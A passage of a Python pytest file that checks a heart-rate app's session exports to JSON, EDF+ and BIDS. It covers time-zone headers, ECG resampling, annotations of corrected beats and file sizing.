"""Every export format round-trips or is validated by the field's own tools: JSON (exact),
EDF+ (read back with pyedflib), BIDS (the official bids-validator from npm), Kubios (read
back by Settle's RR reader), CSV v2 columns; path safety; progress; the CLI."""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import gzip
import json
import os
import shutil
import stat
import subprocess
import time
import warnings
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest
from typer.testing import CliRunner

from sensors.readers import read_rr_file
from sessions.export import export_csv, read_export_csv
from sessions.export_bids import export_bids
from sessions.export_edf import (
    ECG_NOT_RECORDED,
    MAX_ANNOTATION_BYTES,
    export_edf,
    recording_start,
)
from sessions.export_json import export_json, read_export_json
from sessions.export_kubios import export_kubios, markers_file
from sessions.exporters import FORMATS, ExportRefused, export_session
from sessions.files import ExportError, inside, plain_name
from sessions.store import (
    SCHEMA_VERSION,
    BaselinePeriod,
    BeatClass,
    BeatRow,
    EcgBeatRow,
    GapRow,
    IndicesRow,
    Intention,
    IntentionTarget,
    MarkerRow,
    MarkerSource,
    SessionStore,
)
from tests.conftest import DATA, dev_dependency

REPO = Path(__file__).resolve().parents[1]
T0_MS = 1_795_000_000_123  # a start with a sub-second part
ECG_FS = 130


@pytest.fixture
def store(tmp_path: Path) -> Iterator[SessionStore]:
    with SessionStore.open(tmp_path / "s.db") as s:
        yield s


@contextlib.contextmanager
def _local_time(zone: str) -> Iterator[None]:
    """The exporting computer's time zone is ``zone`` (``TZ``) inside the block."""
    old = os.environ.get("TZ")
    os.environ["TZ"] = zone
    time.tzset()
    try:
        yield
    finally:
        if old is None:
            del os.environ["TZ"]
        else:
            os.environ["TZ"] = old
        time.tzset()


@pytest.fixture
def kolkata() -> Iterator[None]:
    """Local time UTC+05:30 all year: an EDF header in UTC cannot pass for it."""
    with _local_time("Asia/Kolkata"):
        yield


def _build(store: SessionStore, *, ecg: bool = True) -> str:
    """A session from a real recording (pyhrv's sample NNIs, 337 beats, ~5 min) with every
    kind of record the store holds."""
    rr = [float(x) for x in read_rr_file(DATA / "pyhrv_nni_short.csv").rr_ms]
    info = store.create_session(
        "polar_h10_a1b2c3d4",
        T0_MS,
        "ble:AA:BB",
        {"settings": {"window_s": 60.0, "baseline_s": 120.0}, "strap": {"model": "H10"}},
        intention=Intention(IntentionTarget.SELF, "I am safe", "hold"),
    )
    t, beats = 0.0, []
    for i, r in enumerate(rr):
        t += r / 1000
        beats.append(
            BeatRow(
                i, t, T0_MS + round(t * 1000) + 300, r, None, round(60_000 / r), None,
                rr_corrected_ms=r if i % 50 else r * 0.9,
                beat_class=BeatClass.NORMAL if i % 50 else BeatClass.LONG,
                timing_uncertain=False,
            )
        )  # fmt: skip
    store.add_beats(info.id, beats)
    store.add_indices(
        info.id,
        [
            IndicesRow(5.0 * k, T0_MS + 5000 * k, json.dumps({"v": 1, "hr_bpm": 70.0 + k}), 70.0)
            for k in range(1, 40)
        ],
    )
    store.add_markers(
        info.id,
        [
            MarkerRow(12.5, T0_MS + 12_500, "hold-start", "I am safe", MarkerSource.CLI),
            MarkerRow(60.25, T0_MS + 60_250, "shame", 'tab\there, "quoted"\nnewline ö', "mqtt"),
        ],
    )
    store.add_gap(info.id, GapRow(100.0, 104.0, "disconnected"))
    store.set_baseline(info.id, BaselinePeriod(0.0, 120.0))
    store.add_tags(info.id, ["morning"])
    store.set_notes(info.id, "calm")
    if ecg:
        n = 40 * ECG_FS
        t_ns = (np.arange(n) * (1e9 / ECG_FS)).round().astype(np.int64)
        uv = (800 * np.sin(np.arange(n) / 7)).astype(np.int32)
        for k in range(0, n, 73):  # Polar-sized frames
            store.add_ecg(info.id, t_ns[k : k + 73].tolist(), uv[k : k + 73].tolist())
        # R peaks detected in that ECG: the first without an interval, some classified.
        peaks = [0.31 + 0.8 * k + 0.0077 * (k % 3) for k in range(45)]
        store.add_ecg_beats(
            info.id,
            [
                EcgBeatRow(
                    k, t, None if k == 0 else round(1000 * (t - peaks[k - 1]), 3),
                    rr_corrected_ms=None if k < 10 else 800.0,
                    beat_class=None if k < 10 else BeatClass.NORMAL,
                )
                for k, t in enumerate(peaks)
            ],
        )  # fmt: skip
    store.finish_session(info.id, T0_MS + round(t * 1000) + 1000)
    return info.id


def test_json_round_trips_exactly_with_a_manifest(store: SessionStore, tmp_path: Path) -> None:
    sid = _build(store)
    seen: list[tuple[int, int]] = []
    path = export_json(store, sid, tmp_path, progress=lambda d, t: seen.append((d, t)))
    assert path.name == f"settle-{sid}.json" and seen[-1] == (1, 1)
    manifest, rec, ecg = read_export_json(path)
    orig = store.read_session(sid)
    assert rec.info == orig.info
    assert rec.beats == orig.beats  # floats exact
    assert rec.markers == orig.markers and rec.gaps == orig.gaps
    assert len(rec.ecg_beats) == 45 and rec.ecg_beats == orig.ecg_beats
    assert [json.loads(r.payload_json) for r in rec.indices] == [
        json.loads(r.payload_json) for r in orig.indices
    ]
    assert ecg is not None and ecg.uv.tolist() == store.ecg(sid).uv.tolist()
    assert manifest.settle_version != "" and manifest.store_schema_version == SCHEMA_VERSION
    assert manifest.recording["settings"] == {"window_s": 60.0, "baseline_s": 120.0}
    assert manifest.indices_payload_versions == [1]
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_edf_reads_back_with_pyedflib(store: SessionStore, tmp_path: Path, kolkata: None) -> None:
    pyedflib = dev_dependency("pyedflib")
    sid = _build(store)
    path = export_edf(store, sid, tmp_path / "s.edf")
    rec = store.read_session(sid)
    with pyedflib.EdfReader(str(path)) as f:
        assert f.getSignalLabels() == ["RR", "HR", "ECG"]
        assert list(f.getSampleFrequencies()) == [4.0, 4.0, float(ECG_FS)]
        assert f.getPhysicalDimension(0) == "ms" and f.getPhysicalDimension(2) == "uV"
        start = f.getStartdatetime()  # naive: the local clock time
        assert int(start.replace(microsecond=0).timestamp()) == T0_MS // 1000
        assert f.file_duration == pytest.approx(np.ceil(rec.beats[-1].beat_t_s + 1), abs=1)
        rr = f.readSignal(0)
        # At 4 Hz, sample k is at t = k / 4 s; compare with the corrected tachogram.
        bt = np.array([b.beat_t_s for b in rec.beats])
        corr = np.array([b.rr_corrected_ms for b in rec.beats], dtype=float)
        k = np.arange(rr.shape[0])
        ok = (k / 4 >= bt[0]) & (k / 4 <= bt[-1]) & ((k / 4 < 100) | (k / 4 > 104))
        assert np.allclose(rr[ok], np.interp(k[ok] / 4, bt, corr), atol=0.05)
        assert np.all(rr[(k / 4 > 100.5) & (k / 4 < 103.5)] < 0.01)  # the gap
        hr = f.readSignal(1)
        assert np.allclose(hr[ok], 60_000 / rr[ok], atol=0.01)
        ecg = f.readSignal(2)
        stored = store.ecg(sid)
        # Recorded at 130 Hz from 0: every sample is on the grid and written unchanged.
        assert np.array_equal(ecg[: len(stored)], stored.uv.astype(float))  # exact µV
        assert f.getPrefilter(2) == "resampled 130.00->130 Hz, Lanczos-windowed sinc, 16 taps/side"
        end_s = f.file_duration
        onsets, durations, texts = f.readAnnotations()
    # pyedflib reports onsets from the exact (sub-second) start: they are session t_s.
    got = sorted(zip(onsets.tolist(), durations.tolist(), texts.tolist(), strict=True))
    # Every 50th beat is corrected ("long"): the samples between its neighbours say so.
    corrected = [a for a in got if a[2] == "corrected: long"]
    got = [a for a in got if a not in corrected]
    assert [(o, o + d) for o, d, _x in corrected] == [
        (np.ceil(bt[max(i - 1, 0)] * 4) / 4, np.ceil(bt[i + 1] * 4) / 4)
        for i in range(0, len(bt), 50)
    ]
    assert got == [
        (0.0, -1.0, "intention practice: hold"),
        (0.0, -1.0, "intention statement: I am safe"),
        (0.0, -1.0, "intention target: self"),
        (0.0, -1.0, "recording start: 2026-11-18T16:36:40.123+05:30"),
        (0.0, 120.0, "baseline"),
        (12.5, -1.0, "hold-start: I am safe"),
        (40.0, end_s - 40.0, ECG_NOT_RECORDED),  # the ECG's 40 s ended before the beats
        (60.25, -1.0, 'shame: tab here, "quoted" newline ö'),
        (100.0, 4.0, "gap: disconnected"),
    ]


def test_edf_of_a_session_recorded_in_another_zone_starts_at_its_local_time(
    store: SessionStore, tmp_path: Path
) -> None:
    """A practitioner recorded in Kolkata (the daemon stored its UTC offset, +05:30) and the
    coach exports at home in New York: the header says 16:36:40, the clock the practitioner
    saw, not New York's 06:06:40 (each session used to be read in the exporting computer's
    zone); the annotation gives the same instant with +05:30."""
    sid = store.create_session("dev", T0_MS, "x", {"utc_offset_s": 19_800}).id
    store.add_beats(sid, [BeatRow(i, 0.8 * (i + 1), T0_MS, 800.0) for i in range(40)])
    store.finish_session(sid, T0_MS + 33_000)
    with _local_time("America/New_York"):
        path = export_edf(store, sid, tmp_path / "s.edf")
        same_zone = store.create_session("dev", T0_MS, "x", {"utc_offset_s": -18_000}).id
        store.add_beats(same_zone, [BeatRow(i, 0.8 * (i + 1), T0_MS, 800.0) for i in range(40)])
        store.finish_session(same_zone, T0_MS + 33_000)
        here = export_edf(store, same_zone, tmp_path / "here.edf")
    head = path.read_bytes()[:256]
    assert head[168:184].decode() == "18.11.2616.36.40"
    assert b"recording start: 2026-11-18T16:36:40.123+05:30" in path.read_bytes()
    # Recorded in the zone it is exported in: read in that zone, as before.
    assert here.read_bytes()[168:184].decode() == "18.11.2606.06.40"


@pytest.mark.parametrize(
    ("zone", "date", "clock", "offset"),
    [
        ("Asia/Kolkata", "18.11.26", "16.36.40", "+05:30"),
        ("Pacific/Kiritimati", "19.11.26", "01.06.40", "+14:00"),  # the next day there
        ("America/New_York", "18.11.26", "06.06.40", "-05:00"),
    ],
)
def test_edf_header_starts_at_the_local_time_with_its_offset_annotated(
    store: SessionStore, tmp_path: Path, zone: str, date: str, clock: str, offset: str
) -> None:
    """The EDF+ specification's start date and time are the local time of the recording (EDF
    has no time zone field), which EDFbrowser and pyedflib show as the start: the
    header held UTC, so a session begun at 16:36 in Kolkata read 11:06. The offset is an
    annotation at 0 with the exact start; every onset stays relative to the header's start,
    so header + onset is each marker's local clock time."""
    pyedflib = dev_dependency("pyedflib")
    sid = store.create_session("dev", T0_MS, "x", {}).id
    store.add_beats(sid, [BeatRow(i, 0.8 * (i + 1), T0_MS, 800.0) for i in range(40)])
    store.add_markers(sid, [MarkerRow(12.5, T0_MS + 12_500, "shame", "x", MarkerSource.CLI)])
    store.finish_session(sid, T0_MS + 33_000)
    with _local_time(zone):
        path = export_edf(store, sid, tmp_path / "s.edf")
        marker_clock = dt.datetime.fromtimestamp((T0_MS + 12_500) / 1000)  # naive, local
    head = path.read_bytes()[:256]
    assert head[168:184].decode() == date + clock
    assert head[88:168].decode().startswith(f"Startdate {date[:2]}-NOV-2026 {sid} ")
    with pyedflib.EdfReader(str(path)) as f:
        start = f.getStartdatetime().replace(microsecond=0)  # pyedflib <= 0.1.42: ms / 10
        onsets, _durations, texts = f.readAnnotations()
    assert f"{start:%d.%m.%y%H.%M.%S}" == date + clock
    stamp = f"{start:%Y-%m-%dT%H:%M:%S}.123{offset}"
    assert texts.tolist() == [f"recording start: {stamp}", "shame: x"]
    assert round(dt.datetime.fromisoformat(stamp).timestamp() * 1000) == T0_MS  # exact
    # The onsets are the session's t_s after the exact start (its .123 s in the time-keeping
    # annotation), so the header's start plus an onset is the marker's local clock time.
    assert onsets.tolist() == [0.0, 12.5]
    assert start + dt.timedelta(seconds=0.123 + onsets[1]) == marker_clock


@pytest.mark.parametrize(
    ("started_ms", "date"),
    [(0, "01.01.yy"), (473_385_600_000, "01.01.85"), (3_597_523_200_000, "01.01.84"),
     (3_660_681_600_000, "01.01.yy")],
)  # fmt: skip
def test_edf_header_year_outside_1985_to_2084_is_yy(
    store: SessionStore, tmp_path: Path, started_ms: int, date: str
) -> None:
    """EDF+ two-digit years mean 1985–2084; outside them the header says ``yy`` and the
    year is only in the recording field's Startdate. A session recorded with the host clock
    still at 1970 (a Pi without a real-time clock) read 2070 to a reader of the header."""
    sid = store.create_session("dev", started_ms, "x", {}).id
    store.add_beats(sid, [BeatRow(i, 0.8 * (i + 1), started_ms, 800.0) for i in range(40)])
    store.finish_session(sid, started_ms + 33_000)
    with _local_time("UTC"):
        head = export_edf(store, sid, tmp_path / "s.edf").read_bytes()[:256]
    assert head[168:176].decode() == date
    year = dt.datetime.fromtimestamp(started_ms / 1000, dt.UTC).year
    assert head[88:168].decode().startswith(f"Startdate 01-JAN-{year} ")


def _pulses(t_s: np.ndarray) -> np.ndarray:
    """A band-limited ECG-like waveform, µV: a Gaussian "QRS" (sd 10 ms, so its spectrum is
    72 dB down at the 65 Hz Nyquist frequency) of 1500 µV every 0.83 s on a slow 200 µV
    wave."""
    beat = (t_s - 0.4) % 0.83
    qrs = 1500.0 * np.exp(-0.5 * ((np.minimum(beat, 0.83 - beat)) / 0.010) ** 2)
    return qrs + 200.0 * np.sin(2 * np.pi * 0.3 * t_s)


def test_edf_and_bids_ecg_keep_the_waveform_recorded_at_the_straps_own_rate(
    store: SessionStore, tmp_path: Path
) -> None:
    """A Polar H10 samples at ~130.16 Hz on its own clock; the files carry 130 Hz. A known
    band-limited waveform recorded at that rate comes out of the EDF (and BIDS, the same
    values) within a few µV of the waveform itself at the file's sample times, and its
    peaks are not lowered: linear interpolation lowered them by up to 7 % (a sample 3.8 ms
    either side of the apex) and was up to ~100 µV off on the QRS slopes."""
    pyedflib = dev_dependency("pyedflib")
    fs_strap = 130.16
    sid = store.create_session("polar_h10_a1b2c3d4", T0_MS, "ble:AA:BB", {}).id
    n = round(30 * fs_strap)
    t_ns = np.round(0.3e9 + np.arange(n) * 1e9 / fs_strap).astype(np.int64)
    uv = np.round(_pulses(t_ns / 1e9)).astype(np.int32)
    for k in range(0, n, 73):
        store.add_ecg(sid, t_ns[k : k + 73].tolist(), uv[k : k + 73].tolist())
    store.finish_session(sid, T0_MS + 31_000)
    with pyedflib.EdfReader(str(export_edf(store, sid, tmp_path / "s.edf"))) as f:
        i = f.getSignalLabels().index("ECG")
        assert f.getSampleFrequency(i) == ECG_FS
        assert f.getPrefilter(i) == "resampled 130.16->130 Hz, Lanczos-windowed sinc, 16 taps/side"
        ecg = f.readSignal(i)
    grid = np.arange(ecg.size) / ECG_FS
    truth = _pulses(grid)
    # Away from the ends of the recording (where the kernel has fewer samples).
    inner = (grid > t_ns[0] / 1e9 + 0.25) & (grid < t_ns[-1] / 1e9 - 0.25)
    assert np.abs(ecg[inner] - truth[inner]).max() <= 3.0
    # Every peak: the highest sample near it as high as the waveform's at those times.
    for apex in np.arange(0.4 + 0.83, 30.0, 0.83):
        near = inner & (np.abs(grid - apex) < 0.03)
        assert ecg[near].max() >= 0.99 * truth[near].max()
    beh = export_bids(store, sid, tmp_path / "bids")
    (data,) = beh.glob("*_recording-ecg_physio.tsv.gz")
    cells = gzip.decompress(data.read_bytes()).decode().split()
    cardiac = np.array([np.nan if c == "n/a" else float(c) for c in cells])
    recorded = (grid[: cardiac.size] >= t_ns[0] / 1e9) & (grid[: cardiac.size] <= t_ns[-1] / 1e9)
    assert np.array_equal(np.isnan(cardiac), ~recorded)
    assert np.array_equal(cardiac[recorded], ecg[: cardiac.size][recorded])  # the same µV
    sidecar = json.loads(data.with_name(data.name.replace(".tsv.gz", ".json")).read_text())
    assert "130.16 Hz" in sidecar["cardiac"]["Description"]
    assert "sinc" in sidecar["cardiac"]["Description"]


def test_edf_without_ecg_and_wrong_suffix(store: SessionStore, tmp_path: Path) -> None:
    pyedflib = dev_dependency("pyedflib")
    sid = _build(store, ecg=False)
    with pytest.raises(ExportError, match=r"must end in \.edf"):
        export_edf(store, sid, tmp_path / "s.txt")
    path = export_edf(store, sid, tmp_path)
    with pyedflib.EdfReader(str(path)) as f:
        assert f.getSignalLabels() == ["RR", "HR"]


def test_edf_beats_not_analysed_are_missing_in_rr_and_hr_never_clipped(
    store: SessionStore, tmp_path: Path
) -> None:
    """The warm-up beats after the connect and an implausible 3.5 s RR are recorded but not
    analysed: the EDF holds no data there (RR and HR both 0, the documented "missing"
    value) and annotates the span, instead of an RR clipped to a fabricated 3000 ms beside an
    HR of 17 bpm. BIDS leaves the same samples n/a. A 4.2 s pause that was analysed (a
    widened ``rr_max_ms``) keeps its real value."""
    pyedflib = dev_dependency("pyedflib")
    sid = store.create_session("polar_h10_a1b2c3d4", T0_MS, "ble:AA:BB", {}).id
    rr = [800.0] * 60
    classes: list[BeatClass | None] = [BeatClass.NORMAL] * 60
    classes[:4] = [BeatClass.WARMUP] * 4
    rr[20], classes[20] = 3500.0, BeatClass.IMPLAUSIBLE
    rr[40] = 4200.0
    t, beats = 0.0, []
    for i, (r, c) in enumerate(zip(rr, classes, strict=True)):
        t += r / 1000
        corrected = None if c in (BeatClass.WARMUP, BeatClass.IMPLAUSIBLE) else r
        beats.append(BeatRow(i, t, T0_MS + round(t * 1000), r, None, round(60_000 / r), None,
                             rr_corrected_ms=corrected, beat_class=c))  # fmt: skip
    store.add_beats(sid, beats)
    store.finish_session(sid, T0_MS + round(t * 1000) + 1000)
    bt = np.array([b.beat_t_s for b in beats])

    with pyedflib.EdfReader(str(export_edf(store, sid, tmp_path / "s.edf"))) as f:
        edf_rr, edf_hr = f.readSignal(0), f.readSignal(1)
        # "Missing" is the digital minimum, which is 0 ms / 0 bpm.
        rr_gone = f.readSignal(0, digital=True) == -32768
        hr_gone = f.readSignal(1, digital=True) == -32768
        onsets, durations, texts = f.readAnnotations()
    assert np.allclose(edf_rr[rr_gone], 0.0) and np.allclose(edf_hr[hr_gone], 0.0)
    k = np.arange(edf_rr.shape[0]) / 4
    around_implausible = (k > bt[19]) & (k < bt[21])
    assert around_implausible.sum() >= 10
    assert rr_gone[around_implausible].all() and hr_gone[around_implausible].all()
    assert rr_gone[k < bt[4]].all() and hr_gone[k < bt[4]].all()  # warm-up
    assert not np.any(np.isclose(edf_rr, 3000.0, atol=1.0))  # nothing clipped
    # RR and HR agree on every sample: both missing, or HR = 60000 / RR.
    assert np.array_equal(rr_gone, hr_gone)
    has = ~rr_gone
    assert np.allclose(edf_hr[has], 60_000 / edf_rr[has], atol=0.02)
    # Where there is data it is the tachogram, the 4.2 s pause too (no longer cut at 3 s).
    assert np.allclose(edf_rr[has], np.interp(k[has], bt, rr), atol=0.1)
    assert edf_rr.max() > 3900.0
    got = sorted(zip(onsets.tolist(), durations.tolist(), texts.tolist(), strict=True))
    assert got == [
        (0.0, -1.0, recording_start(T0_MS)),
        (0.0, pytest.approx(bt[4]), "not analysed: warmup"),
        (pytest.approx(bt[19]), pytest.approx(bt[21] - bt[19]), "not analysed: implausible"),
    ]

    beh = export_bids(store, sid, tmp_path / "ds")
    (physio,) = beh.glob("*_task-settle_physio.tsv.gz")
    rows = gzip.decompress(physio.read_bytes()).decode().splitlines()
    n = min(len(rows), edf_rr.shape[0])
    assert [r == "n/a\tn/a" for r in rows[:n]] == rr_gone[:n].tolist()
    # ... and its events list those spans, as the EDF annotates them.
    (events,) = beh.glob("*_events.tsv")
    spans = [ln.split("\t") for ln in events.read_text().splitlines()[1:]]
    spans = [(float(o), float(d), k, t) for o, d, k, _src, t in spans if k == "not-analysed"]
    assert spans == [
        (0.0, pytest.approx(bt[4]), "not-analysed", "warmup"),
        (pytest.approx(bt[19]), pytest.approx(bt[21] - bt[19]), "not-analysed", "implausible"),
    ]


def test_edf_and_bids_series_follow_the_corrected_intervals(
    store: SessionStore, tmp_path: Path
) -> None:
    """A spurious beat correction merged away (``extra``, no corrected RR) was drawn at its
    raw RR: a 410 ms spike (HR 146 bpm) in 1060 ms intervals, HF power ×2.8 in a spectrum
    of the exported series. And a "missed" beat split in two left a 2 s hole with no gap
    or annotation (its raw spacing was compared with the corrected half-interval). Both
    4 Hz series now follow the corrected tachogram, as the indices do."""
    pyedflib = dev_dependency("pyedflib")
    sid = store.create_session("polar_h10_a1b2c3d4", T0_MS, "ble:AA:BB", {}).id
    beats, t = [], 0.0
    plan: list[tuple[float, float | None, BeatClass]] = [(1060.0, 1060.0, BeatClass.NORMAL)] * 80
    plan[30] = (404.0, None, BeatClass.EXTRA)  # spurious: merged into the next
    plan[31] = (656.0, 1060.0, BeatClass.EXTRA)
    plan[50] = (2200.0, 1100.0, BeatClass.MISSED)  # split in two halves of 1100 ms
    for i, (raw, corrected, cls) in enumerate(plan):
        t += raw / 1000
        beats.append(BeatRow(i, t, T0_MS + round(t * 1000), raw, None, 57, None,
                             rr_corrected_ms=corrected, beat_class=cls))  # fmt: skip
    store.add_beats(sid, beats)
    store.finish_session(sid, T0_MS + round(t * 1000) + 500)
    with pyedflib.EdfReader(str(export_edf(store, sid, tmp_path / "s.edf"))) as f:
        edf_rr = f.readSignal(0)
        missing = f.readSignal(0, digital=True) == -32768
    k = np.arange(edf_rr.shape[0]) / 4
    inside = (k > beats[0].beat_t_s) & (k < beats[-1].beat_t_s)
    assert not missing[inside].any()  # no hole at the split beat
    assert np.abs(edf_rr[inside] - 1060.0).max() < 45.0  # no 404/656 ms spike; 1100 at most
    beh = export_bids(store, sid, tmp_path / "ds")
    (physio,) = beh.glob("*_task-settle_physio.tsv.gz")
    rows = gzip.decompress(physio.read_bytes()).decode().splitlines()
    bids_rr = np.array([float(r.split("\t")[0]) for r, i in zip(rows, inside, strict=False) if i])
    assert np.abs(bids_rr - 1060.0).max() < 45.0


def test_edf_annotates_every_rr_sample_drawn_from_a_corrected_interval(
    store: SessionStore, tmp_path: Path
) -> None:
    """The RR and HR signals follow the artefact-corrected tachogram, and nothing in the file
    said where: a researcher reading the EDF took a corrected ectopic pair for two measured
    1000 ms intervals. Every sample whose value comes from a corrected interval is now under
    a ``corrected: <classes>`` annotation (read back with pyedflib, as EDFbrowser and MNE
    list them), and every sample outside one is the measured tachogram."""
    pyedflib = dev_dependency("pyedflib")
    sid = store.create_session("polar_h10_a1b2c3d4", T0_MS, "ble:AA:BB", {}).id
    plan: list[tuple[float, float | None, BeatClass]] = [(1010.0, 1010.0, BeatClass.NORMAL)] * 90
    plan[:3] = [(1010.0, None, BeatClass.WARMUP)] * 3  # no data: not annotated as corrected
    plan[20], plan[21] = (610.0, 1010.0, BeatClass.ECTOPIC), (1410.0, 1010.0, BeatClass.ECTOPIC)
    plan[40] = (1330.0, 1010.0, BeatClass.LONG)
    plan[55] = (404.0, None, BeatClass.EXTRA)  # spurious, merged into the next
    plan[56] = (606.0, 1010.0, BeatClass.EXTRA)
    plan[70] = (2020.0, 1010.0, BeatClass.MISSED)
    beats, t = [], 0.0
    for i, (raw, corrected, cls) in enumerate(plan):
        t += raw / 1000
        beats.append(BeatRow(i, t, T0_MS + round(t * 1000), raw, None, 59, None,
                             rr_corrected_ms=corrected, beat_class=cls))  # fmt: skip
    store.add_beats(sid, beats)
    store.finish_session(sid, T0_MS + round(t * 1000) + 500)
    with pyedflib.EdfReader(str(export_edf(store, sid, tmp_path / "s.edf"))) as f:
        rr = f.readSignal(0)
        has = f.readSignal(0, digital=True) != -32768
        onsets, durations, texts = f.readAnnotations()
    marked = [
        (o, d, x) for o, d, x in zip(onsets, durations, texts, strict=True) if "corrected" in x
    ]
    assert [x for _o, _d, x in marked] == [
        "corrected: ectopic",
        "corrected: long",
        "corrected: extra",
        "corrected: missed",
    ]
    k = np.arange(rr.shape[0]) / 4
    covered = np.zeros(rr.shape[0], dtype=bool)
    for onset, duration, _text in marked:
        covered |= (k >= onset - 1e-9) & (k < onset + duration - 1e-9)
    # A sample depends on a corrected beat when it lies on it or between it and a neighbour
    # (the merged-away spurious beat is not in the series).
    kept = [b for j, b in enumerate(beats) if j != 55]
    bt = np.array([b.beat_t_s for b in kept])
    fixed = np.array([b.beat_class not in (BeatClass.NORMAL, BeatClass.WARMUP) for b in kept])
    depends = np.zeros_like(covered)
    for j in np.flatnonzero(fixed):
        depends |= (k > bt[j - 1]) & (k < bt[j + 1])
    assert np.array_equal(covered, depends & has)
    assert covered.sum() > 30
    # Everywhere else the signal is what the strap measured.
    measured = np.interp(k, bt, [b.rr_ms for b in kept])
    assert np.allclose(rr[has & ~covered], measured[has & ~covered], atol=0.1)
    assert not np.allclose(rr[covered], measured[covered], atol=0.1)


def test_edf_annotation_texts_are_unambiguous_and_cut_visibly(
    store: SessionStore, tmp_path: Path
) -> None:
    """The intention is one annotation per field, so a "|" in the statement cannot be taken
    for a separator; a marker text longer than EDFlib keeps (512 bytes) ends in "…" on a
    whole character instead of being cut silently mid-character."""
    pyedflib = dev_dependency("pyedflib")
    sid = store.create_session(
        "dev", T0_MS, "x", {}, intention=Intention(IntentionTarget.SELF, "safe | sound", "a|b")
    ).id
    store.add_beats(sid, [BeatRow(i, 0.8 * (i + 1), T0_MS, 800.0) for i in range(20)])
    store.add_markers(sid, [MarkerRow(5.0, T0_MS + 5000, "note", "€" * 300, MarkerSource.CLI)])
    store.finish_session(sid, T0_MS + 17_000)
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # pyedflib warns when a text is not valid UTF-8
        with pyedflib.EdfReader(str(export_edf(store, sid, tmp_path / "s.edf"))) as f:
            _onsets, _durations, texts = f.readAnnotations()
    assert texts.tolist()[:4] == [
        recording_start(T0_MS),
        "intention target: self",
        "intention statement: safe | sound",
        "intention practice: a|b",
    ]
    long = texts.tolist()[4]
    assert long.startswith("note: €€€") and long.endswith("€…")
    assert len(long.encode("utf-8")) <= MAX_ANNOTATION_BYTES == 512


def test_edf_size_does_not_grow_with_the_notes_at_one_moment(
    store: SessionStore, tmp_path: Path
) -> None:
    """Annotations are spread over the data records: many long notes at one moment (and at
    the very end) leave the file within a small factor of the same session without them,
    instead of every record being padded to hold them all (12 notes of 600 characters at
    one moment made a 26 h file 590 MB instead of 7.5 MB); every one reads back in order,
    with its onset, duration and text."""
    pyedflib = dev_dependency("pyedflib")

    def session(notes: bool) -> str:
        sid = store.create_session("dev", T0_MS, "x", {}).id
        store.add_beats(sid, [BeatRow(i, 0.9 * (i + 1), T0_MS, 900.0) for i in range(1000)])
        store.add_gap(sid, GapRow(400.0, 402.5, "disconnected"))
        if notes:
            store.set_intention(sid, Intention(IntentionTarget.SELF, "s" * 480, "p" * 100))
            store.add_markers(
                sid,
                [
                    MarkerRow(t, T0_MS, "note", f"{t:g} {k:02d} " + "n" * 400, MarkerSource.IMPORT)
                    for t in (300.0, 900.5)  # the second at the session's last second
                    for k in range(12)
                ],
            )
        store.finish_session(sid, T0_MS + 901_000)
        return sid

    plain = export_edf(store, session(False), tmp_path / "plain.edf").stat().st_size
    path = export_edf(store, session(True), tmp_path / "notes.edf")
    assert path.stat().st_size < 2 * plain
    with pyedflib.EdfReader(str(path)) as f:
        onsets, durations, texts = f.readAnnotations()
        rr = f.readSignal(0)
        assert f.getSampleFrequencies()[0] == 4.0
        assert f.file_duration >= 901.0
    got = list(zip(onsets.tolist(), durations.tolist(), texts.tolist(), strict=True))
    notes = [
        (t, -1.0, f"note: {t:g} {k:02d} " + "n" * 400) for t in (300.0, 900.5) for k in range(12)
    ]
    assert got == [
        (0.0, -1.0, recording_start(T0_MS)),
        (0.0, -1.0, "intention target: self"),
        (0.0, -1.0, "intention statement: " + "s" * 480),
        (0.0, -1.0, "intention practice: " + "p" * 100),
        *notes[:12],
        (400.0, 2.5, "gap: disconnected"),
        *notes[12:],
    ]
    k = np.arange(rr.shape[0])
    assert np.allclose(rr[(k >= 4) & (k < 1600)], 900.0, atol=0.1)  # samples at their times
    assert np.all(rr[(k > 1601) & (k < 1610)] < 0.01)  # the gap


@pytest.mark.parametrize(
    ("length_ms", "statement", "record_s", "file_s"),
    [
        (120_000, "", 1, 121),  # a session of whole records still gets one more
        (120_400, "", 1, 121),
        (120_000, "s" * 480, 5, 125),  # a long annotation: 5 s records, one more whole
        (117_400, "s" * 480, 5, 120),
    ],
)
def test_edf_ends_within_one_record_after_the_session(
    store: SessionStore,
    tmp_path: Path,
    length_ms: int,
    statement: str,
    record_s: int,
    file_s: int,
) -> None:
    """The file is the whole records that hold the session's end, ``ceil((span + 1e-9) /
    record)`` of them, so it ends after the session by up to one record: 1 s, or 5 s with a
    long statement (the docs said "up to 4 s"), those samples without data."""
    sid = store.create_session(
        "dev", T0_MS, "x", {}, intention=Intention(IntentionTarget.SELF, statement, "")
    ).id
    n = length_ms // 1000 - 1
    store.add_beats(sid, [BeatRow(i, i + 1.0, T0_MS + 1000 * (i + 1), 1000.0) for i in range(n)])
    store.finish_session(sid, T0_MS + length_ms)
    header = export_edf(store, sid, tmp_path / "x.edf").read_bytes()[:256]
    n_records, duration = int(header[236:244]), float(header[244:252])
    assert (duration, n_records * duration) == (record_s, file_s)


@pytest.mark.parametrize(
    ("speed", "wall_ms", "last_beat_s", "span_s"),
    [
        (0.5, 20_000, 9.6, 10.0),  # settle demo --speed 0.5 --duration 20: 10 session s
        (5.0, 120_700, 100.0, 603.5),  # beats ended before the session did
    ],
)
def test_edf_bids_and_the_listing_span_a_time_compressed_session_in_session_seconds(
    store: SessionStore,
    tmp_path: Path,
    speed: float,
    wall_ms: int,
    last_beat_s: float,
    span_s: float,
) -> None:
    """A --speed replay records ``speed`` session seconds per wall-clock second: the EDF,
    the BIDS physio file and ``settle sessions list`` span its session seconds, not its
    wall-clock length (at 0.5 they were twice too long, at 5 BIDS ended at 120.7 s while its
    events ran to 600.9 s and the EDF to 601 s)."""
    pyedflib = dev_dependency("pyedflib")
    sid = store.create_session("dev", T0_MS, "x", {"time_scale": speed}).id
    n = round(last_beat_s / 0.8)
    store.add_beats(sid, [BeatRow(i, 0.8 * (i + 1), T0_MS, 800.0) for i in range(n)])
    store.add_markers(sid, [MarkerRow(span_s - 2.6, T0_MS, "note", "late", MarkerSource.MQTT)])
    store.finish_session(sid, T0_MS + wall_ms)
    assert store.recorded_span_s(sid) == pytest.approx(span_s)
    (row,) = [r for r in store.list_sessions() if r.id == sid]
    assert row.duration_s == pytest.approx(span_s)
